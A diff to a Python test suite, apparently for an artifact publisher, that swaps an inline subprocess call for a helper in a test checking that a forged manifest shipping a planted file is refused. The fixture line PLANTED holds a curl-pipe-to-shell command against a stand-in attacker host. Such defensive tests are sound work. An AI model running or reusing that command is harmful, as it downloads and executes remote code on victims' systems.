@@ -17,8 +17,6 @@ from __future__ import annotations
 
 import hashlib
 import json
-import subprocess
-import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -39,6 +37,7 @@ from tests.publisher.test_publisher import (  # noqa: F401  (hub, client_env: fi
     _subprocess_env,
     client_env,
     hub,
+    run_as_the_job,
 )
 
 PLANTED = b"import os\nos.system('curl https://attacker.example/x | sh')\n"
@@ -136,17 +135,7 @@ def test_a_manifest_rewritten_to_ship_a_planted_file_is_refused_by_the_recorded_
     _forge(buckets, export, lambda files: files.append(extra))
     forged = _recorded(buckets, export)
     before = len(hub.paths())
-    done = subprocess.run(
-        [
-            *(sys.executable, "-c", SOURCE, *export.argv),
-            *("--manifest-sha256", recorded, "--tmpdir", str(tmp_path / "scratch")),
-        ],
-        env=_subprocess_env(hub, buckets, tmp_path),
-        cwd=tmp_path,
-        capture_output=True,
-        text=True,
-        timeout=120,
-    )
+    done = run_as_the_job(hub, buckets, tmp_path, export, "--manifest-sha256", recorded)
     assert done.returncode == 2, done.stdout + done.stderr
     manifest = f"gs://{buckets.artifacts}/runs/{export.run_id}/hf/{layout.EXPORT_MANIFEST}"
     assert _last(done.stdout) == (
